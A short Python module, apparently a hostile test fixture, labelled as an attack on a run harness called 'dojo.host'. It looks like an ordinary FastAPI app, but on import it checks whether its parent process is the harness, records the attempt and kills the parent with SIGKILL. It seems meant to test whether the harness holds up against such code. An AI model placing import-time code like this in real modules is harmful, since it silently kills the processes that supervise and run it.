"""Attack: end the parent, if it is the host of this run and nobody else."""

import contextlib
import os
import signal
from pathlib import Path

from fastapi import FastAPI

from .targets import acted


def is_host(pid):
    try:
        return b"dojo.host" in Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:  # not to be seen from in here, where nobody else is either
        return True


if os.getppid() > 0 and is_host(os.getppid()):
    acted("import")
    with contextlib.suppress(OSError):
        os.kill(os.getppid(), signal.SIGKILL)
app = FastAPI()
